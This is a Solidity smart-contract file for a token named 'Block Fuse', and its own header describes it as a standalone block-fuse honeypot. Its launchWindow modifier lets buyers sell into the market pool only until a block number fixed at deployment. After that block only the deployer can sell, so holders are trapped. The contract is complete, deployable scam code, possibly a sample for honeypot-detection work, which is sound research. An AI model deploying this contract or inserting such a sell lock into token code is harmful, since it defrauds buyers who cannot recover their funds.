// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// @title Block-fuse honeypot, standalone: a modifier lets transfers into
/// the pool through only while the chain is below a block number fixed at
/// deployment (a "launch window"); past it only the deployer can sell.
contract BlockFuseToken {
    string public name = "Block Fuse";
    string public symbol = "FUSE";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public immutable deployer;
    uint256 public immutable windowEnd;
    address public market;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    modifier launchWindow(address from, address to) {
        if (to == market && from != deployer) {
            require(block.number < windowEnd, "window closed");
        }
        _;
    }

    constructor(uint256 supply, uint256 windowBlocks) {
        deployer = msg.sender;
        windowEnd = block.number + windowBlocks;
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function setMarket(address pool) external {
        require(msg.sender == deployer && market == address(0), "once");
        market = pool;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _send(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 a = allowance[from][msg.sender];
        if (a != type(uint256).max) {
            require(a >= value, "allowance");
            allowance[from][msg.sender] = a - value;
        }
        _send(from, to, value);
        return true;
    }

    function _send(address from, address to, uint256 value) private launchWindow(from, to) {
        require(balanceOf[from] >= value, "balance");
        unchecked {
            balanceOf[from] -= value;
        }
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
